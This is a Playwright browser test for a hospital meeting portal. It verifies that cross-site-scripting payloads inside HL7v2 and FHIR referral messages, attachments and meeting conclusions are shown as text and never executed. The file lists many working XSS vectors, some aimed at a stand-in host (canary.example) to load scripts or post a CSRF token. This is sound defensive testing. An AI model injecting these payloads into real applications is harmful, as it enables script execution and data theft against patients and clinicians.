"""C2: markup in everything that hospitals send and people type, looked at in a real browser. It is text: nothing runs, nothing is fetched."""

from __future__ import annotations

import base64
import json
import logging
import uuid
from collections import Counter
from collections.abc import Iterator
from contextlib import suppress
from datetime import UTC, datetime, timedelta
from typing import Any

from playwright.sync_api import BrowserContext, Page
from playwright.sync_api import Error as BrowserError
from sqlalchemy import select

from integrations.hl7v2.text.marks import STANDARD
from mdo_portal import reception
from mdo_portal.database import Database
from mdo_portal.domain.board import Meeting
from mdo_portal.domain.case import Case, CaseState
from mdo_portal.domain.document import CaseDocument
from mdo_portal.domain.round import Round
from mdo_portal.exchange import Wire
from mdo_portal.services.links import hospitals
from mdo_portal.services.room import rooms
from tests import make
from tests.browser import chromium
from tests.faults.house import House
from tests.integrations.fhir.make import bundle, condition, patient, request
from tests.reception_house import READERS, understand_all
from tests.web.access_house import READS
from tests.web.portal import signed_in
from tests.web.test_csp import LISTEN, served

Figures = dict[str, Any]
AWAY = "http://canary.example"
PAYLOADS = [
    "<script>alert(1)</script>", f'"><script src={AWAY}/x.js></script>', f"<img src={AWAY}/i onerror=alert(1)>", "<svg onload=alert(1)>",
    "' onmouseover='alert(1)' x='", '" autofocus onfocus="alert(1)', '<a href="javascript:alert(1)" class=evil>x</a>', "javascript:alert(1)",
    f'<style>@import "{AWAY}/s.css";*{{background:url({AWAY}/b)}}</style>', '<iframe src="javascript:alert(1)"></iframe>', f"<base href={AWAY}/>",
    f'<meta http-equiv=refresh content="0;url={AWAY}/">', f"<link rel=stylesheet href={AWAY}/s>", f"<form action={AWAY}><input name=csrf_token autofocus>",
    "</textarea></title></script><script>alert(1)</script>", "<template shadowrootmode=open><script>alert(1)</script></template>",
    f"<object data={AWAY}/o></object>", "<math><mi xlink:href='javascript:alert(1)'>", "<x onanimationstart=alert(1) style='animation:a 1s'>", "{{7*7}}${alert(1)}",
    f"<div hx-get={AWAY} hx-trigger=load data-url={AWAY}></div>", "\u2028<script>alert(1)</script>\u2029", "&lt;script&gt;alert(1)&lt;/script&gt;",
]  # fmt: skip
ALL = " ".join(PAYLOADS)
DOCUMENTS = {
    "text^html": b"<html><script>alert(1)</script></html>",
    "image^svg+xml": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
    "text^xml": b'<ClinicalDocument xmlns="urn:hl7-org:v3"><component><nonXMLBody><text mediaType="text/html"><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>'
    b"</text></nonXMLBody></component></ClinicalDocument>",
    "application^pdf": b"%PDF-1.7 <</S/JavaScript/JS(app.alert(1))>>",
    "text^plain": b"<script>alert(1)</script>",
}
LOOK = """() => {
  for (const one of document.querySelectorAll('details')) one.open = true;
  for (const one of document.querySelectorAll('*')) for (const name of ['mouseover', 'mouseenter', 'focus', 'pointerover', 'animationstart'])
    one.dispatchEvent(new Event(name));
  for (const one of document.querySelectorAll('a.evil')) one.click();
  const evil = /alert\\(1|canary/, acts = /^(on|src|href|xlink:href|data$|action|style|hx-|content$)/;
  return {
    elements: [...document.querySelectorAll('*')].filter(one => [...one.attributes].some(each => acts.test(each.name) && evil.test(each.value))
      || ['script', 'style', 'template', 'object', 'base', 'math'].includes(one.localName) && evil.test(one.textContent + one.outerHTML)).length,
    shown: document.body ? document.body.innerText.includes('<script>') : false,
  };
}"""


def inert(house: House, *, rounds: int) -> Figures:
    """Two hospitals' messages and a board's conclusion full of it, then every page that shows them, looked at by three people."""
    database, found = house.copy(), Counter[str]()
    logging.getLogger("werkzeug").setLevel(logging.ERROR)
    wrong: list[str] = []
    with database.transaction() as session:
        meeting, now = session.get_one(Meeting, house.region.meeting), datetime.now(UTC)
        meeting.starts_at, meeting.registration_closes_at = now + timedelta(days=2), now + timedelta(days=1)
    places = [place for round_ in range(rounds) for place in _told(database, house, round_)]
    with served(database) as (app, url), chromium() as browser:
        for name in ("Bram", "Aisha", "Lars"):
            cookie = signed_in(app, database, house.region, name).get_cookie("mdo")  # type: ignore[arg-type]
            assert cookie is not None
            context = browser.new_context()
            context.add_cookies([{"name": "mdo", "value": cookie.value, "url": url}])
            _watch(context, url, found)
            page = context.new_page()
            for path in dict.fromkeys(
                path.format(**ids)
                for ids in places
                for path in [*READS, "/documents/{document_id}?download=1", "/inbox", "/register", "/meetings"]
            ):
                before = dict(found)
                _look(page, url + path, found)
                wrong += [
                    f"{name} {path.partition('?')[0]} {what}"
                    for what in ("dialogs", "away", "violations", "elements")
                    if found[what] != before.get(what, 0)
                ]
            found["heard"] += _control(page, found)
            context.close()
    database.close()
    figures = {
        "rounds": rounds,
        "lost": 0,
        "duplicates": 0,
        "payloads": len(PAYLOADS),
        "pages": found["pages"],
        "shown_as_text": found["shown"],
    }
    figures |= {
        "executions": found["dialogs"],
        "requests": found["away"],
        "injected": found["elements"],
        "csp_violations": found["violations"],
        "wrong": wrong[:10],
    }
    harmless = not (found["dialogs"] or found["away"] or found["elements"] or found["violations"])
    return figures | {"ok": harmless and found["heard"] == 3 and found["shown"] > 3 * rounds and found["pages"] > 20}


def _watch(context: BrowserContext, url: str, found: Counter[str]) -> None:
    context.add_init_script(LISTEN)
    context.on(
        "request",
        lambda asked: found.update(
            away=int(not asked.url.startswith((url, "data:", "blob:", "about:", url.replace("http", "ws"))))
        ),
    )
    context.on("console", lambda line: found.update(violations=int("VIOLATION" in line.text)))

    def dismissed(dialog: Any) -> None:
        found["dialogs"] += 1
        dialog.dismiss()

    context.on("dialog", dismissed)


def _look(page: Page, address: str, found: Counter[str]) -> None:
    """Open it, touch everything on it."""
    with suppress(BrowserError):  # a download is no page
        answer = page.goto(address, wait_until="load")
        page.wait_for_timeout(150)
        if answer is None or not answer.headers.get("content-type", "").startswith("text/html"):
            found["files"] += 1
            return
        seen = page.evaluate(LOOK)
        page.wait_for_timeout(50)
        found["pages"] += 1
        found["elements"] += seen["elements"]
        found["shown"] += seen["shown"]


def _control(page: Page, found: Counter[str]) -> bool:
    """That we would have heard: a dialog and a violation of our own, which do not count."""
    before = dict(found)
    page.evaluate(
        "() => { alert(1); const one = document.createElement('img'); one.src = 'http://canary.example/c'; document.body.append(one); }"
    )
    page.wait_for_timeout(200)
    heard = found["dialogs"] > before.get("dialogs", 0) and found["violations"] + found["away"] > before.get(
        "violations", 0
    ) + before.get("away", 0)
    for name in ("dialogs", "away", "violations"):
        found[name] = before.get(name, 0)
    return heard


# What is told


def _told(database: Database, house: House, round_: int) -> Iterator[dict[str, Any]]:
    """Both cases of this round, discussed and signed; the ids of their pages."""
    one = PAYLOADS[round_ % len(PAYLOADS)]
    _hand_in(
        database,
        house,
        [_hl7(round_, one), make.hl7_referral("", sender=STANDARD.escaped(one)), _hl7(round_, one)[:-400]],
        Wire.HL7V2,
    )
    _hand_in(database, house, [_fhir(round_, one)], Wire.FHIR)
    understand_all(database)
    with database.transaction() as session:
        region, now = house.region, datetime.now(UTC)
        meeting = session.get_one(Meeting, region.meeting)
        cases = session.scalars(select(Case).where(Case.referral_number.in_((f"C2-{round_}", f"C2F-{round_}")))).all()
        assert len(cases) == 2
        for at, case in enumerate(cases):
            case.board_id, case.state = region.boards["URO-P"], CaseState.READY  # what is missing was looked at by a person
            planned = make.planned(session, case, meeting, viewer=region.aisha, now=now)
            make.discussed(session, planned, viewer=region.bram, now=now, text=ALL)
            if at == 0:
                make.signed(session, planned, viewer=region.bram, now=now)
        session.flush()
        if round_ == 0:
            rooms.open_meeting(session, meeting, now=now)
        for case in cases:
            rounds = session.scalars(select(Round.id).where(Round.case_id == case.id)).one()
            fixed = {"case_id": case.id, "round_id": rounds, "meeting_id": meeting.id}
            for document in session.scalars(select(CaseDocument.id).where(CaseDocument.case_id == case.id)).all() or [
                uuid.uuid4()
            ]:
                yield fixed | {"document_id": document}


def _hl7(round_: int, one: str) -> bytes:
    text = STANDARD.escaped(ALL, formatted=True)
    raw = make.hl7_referral(
        "", patient=f"C2{round_}", referral_number=f"C2-{round_}", question=text, family=STANDARD.escaped(one)
    )
    more = [
        f"OBX|3|ED|57133-1^{text[:300]}^LN||^{kind}^Base64^{base64.b64encode(body).decode()}||||||F\rNTE|1||{STANDARD.escaped(one)}.pdf\r"
        for kind, body in DOCUMENTS.items()
    ]
    facts = f"OBX|9|FT|X1^{STANDARD.escaped(one)}^L||{text}||||||F\r"
    return raw + "".join([*more, facts]).encode()


def _fhir(round_: int, one: str) -> bytes:
    narrative = {"status": "generated", "div": f'<div xmlns="http://www.w3.org/1999/xhtml">{ALL}</div>'}
    who = patient(
        identifier=[{"system": "urn:oid:2.25.1", "value": f"C2F{round_}"}],
        name=[{"family": one, "given": [one]}],
        birthDate="1960-01-01",
        text=narrative,
    )
    paper = {
        "resourceType": "DocumentReference", "status": "current", "subject": {"reference": "Patient/p"}, "description": ALL,
        "content": [{"attachment": {"contentType": "text/html", "title": one, "data": base64.b64encode(DOCUMENTS["text^html"]).decode()}}],
    }  # fmt: skip
    asked = request(
        identifier=[{"value": f"C2F-{round_}"}], note=[{"text": ALL}], reasonCode=[{"text": ALL}], requester={"display": one}
    )
    told = json.loads(bundle(asked, who, condition(1, code={"text": ALL}, text=narrative), paper))
    return json.dumps(told).encode()


def _hand_in(database: Database, house: House, raws: list[bytes], wire: Wire) -> None:
    with database.transaction() as session:
        links = hospitals.links(session)
    link = next(row for row in links if row.hospital_code == "DELT") if wire is Wire.FHIR else None
    now = datetime.now(UTC)
    reception.keep(
        database, [reception.sort(raw, wire=wire, reader=READERS[wire], links=links, link=link, now=now) for raw in raws]
    )
